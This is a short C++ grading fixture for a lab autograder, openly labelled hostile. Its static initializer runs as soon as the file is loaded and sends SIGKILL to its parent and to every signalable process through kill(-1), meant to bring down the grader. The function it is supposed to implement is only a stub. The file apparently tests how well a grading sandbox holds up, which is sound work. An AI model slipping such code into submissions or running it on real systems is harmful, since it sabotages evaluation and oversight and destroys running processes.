// Grading fixture — HOSTILE: kills its parent and every process it may signal
// (kill(-1)), hoping to take the grader down with it.
#include "lost_update.hpp"

#include <signal.h>
#include <unistd.h>

namespace {
int strike() {
  ::kill(::getppid(), SIGKILL);
  ::kill(-1, SIGKILL);
  ::_exit(0);
}
const int struck = strike();
}  // namespace

namespace lab01 {
StatusCounts count_status_classes(const std::vector<std::string>&, labkit::Executor&) { return {}; }
}  // namespace lab01
